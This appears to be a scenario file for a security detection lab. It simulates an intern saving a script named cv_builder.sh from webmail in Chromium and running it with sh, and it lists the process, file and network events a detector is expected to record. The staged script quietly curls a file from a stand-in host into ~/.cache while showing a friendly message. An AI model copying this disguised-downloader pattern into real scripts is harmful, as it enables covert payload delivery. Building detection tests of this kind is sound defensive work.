# A script comes by webmail, Chromium saves it, a shell runs it by name.
title="Script downloaded from webmail with Chromium, run with sh"
what="The intern opens a link of a private webmail account in Chromium; the server answers with an attachment which Chromium saves into ~/Downloads.
In a terminal the intern runs it with sh; it fetches a file from 203.0.113.66 and leaves it in ~/.cache."
host=ws3.example.org user=intern daemons="cron"

setup() {
  mkdir -p "$base/out/www/mail/attachment"
  cat > "$base/out/www/mail/attachment/cv_builder.sh" <<'P'
#!/bin/sh
mkdir -p "$HOME/.cache/cvb"
curl -s -o "$HOME/.cache/cvb/data" http://drop.example.net/cvb/data
echo "Thank you, your CV is being prepared."
P
}
act() {
  small_talk 2
  display_up
  chromium_as intern https://webmail.example.com/mail/attachment/cv_builder.sh
  wait_file /home/intern/Downloads/cv_builder.sh 40
  sleep 3
  console_as intern <<'L'
cd ~/Downloads
ls
less -F cv_builder.sh
%sleep 2
sh cv_builder.sh
L
  desktop_close
  small_talk 1
}
truth() {
  net_step visit 'chromium.* 203.0.113.83:443' 'the browser visits a webmail service that is not ours'
  file_step save 'chromium.* (rename|link) .*CREATE /home/intern/Downloads/cv_builder.sh$' 'the browser saves the attachment'
  exec_step execute '(dash|sh) sh cv_builder.sh' 'a shell runs it by name'
  exec_step fetch 'curl -s -o /home/intern/.cache/cvb/data' 'it fetches more'
  net_step call-out 'curl 203.0.113.66:80' 'from outside'
}
